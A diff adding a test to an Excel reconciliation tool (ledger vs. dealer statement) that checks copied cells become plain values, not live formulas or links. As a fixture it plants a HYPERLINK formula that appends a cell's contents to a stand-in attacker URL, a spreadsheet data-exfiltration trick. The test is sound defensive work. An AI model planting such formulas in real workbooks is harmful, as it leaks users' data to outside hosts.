@@ -193,3 +193,24 @@ describe("duizhang reconcile", () => {
     expect(d.differences).toEqual([expect.objectContaining({ kind: "ledger_only", ledgerRows: [3], statementRows: [], amount: "50.00" })]);
   });
 });
+
+describe("copies in the result workbook", () => {
+  test("the dealer's formulas and links are copied as the values that were read, never as live formulas", async () => {
+    const d = await sampleDir();
+    const wb = await XlsxWorkbook.open(path.join(d, "sample.xlsx"));
+    const ws = wb.workbook.getWorksheet("美达对账单")!;
+    ws.getCell("C19").value = { formula: 'HYPERLINK("http://evil.invalid/?"&B19,"三季度返利冲抵货款")', result: "三季度返利冲抵货款" };
+    ws.getCell("G5").value = { formula: "参数!A1*1", result: 7 };
+    ws.getCell("G6").value = { text: "回单", hyperlink: "http://evil.invalid/x" };
+    await wb.save(path.join(d, "formulas.xlsx"));
+    const r = await run(["reconcile", "--ledger", "formulas.xlsx", "--ledger-sheet", "应收明细账", "--statement", "formulas.xlsx", "--statement-sheet", "美达对账单", "--out", "r.xlsx"], d);
+    expect(r.code).toBe(0);
+    const out = await XlsxWorkbook.open(path.join(d, "r.xlsx"));
+    const copy = out.workbook.getWorksheet("对账单-美达对账单")!;
+    expect(copy.getCell("C19").value).toBe("三季度返利冲抵货款");
+    expect(copy.getCell("G5").value).toBe(7);
+    expect(copy.getCell("G6").value).toBe("回单");
+    copy.eachRow((row) => row.eachCell((c) => expect(c.formula).toBeUndefined()));
+    fs.rmSync(d, { recursive: true, force: true });
+  });
+});
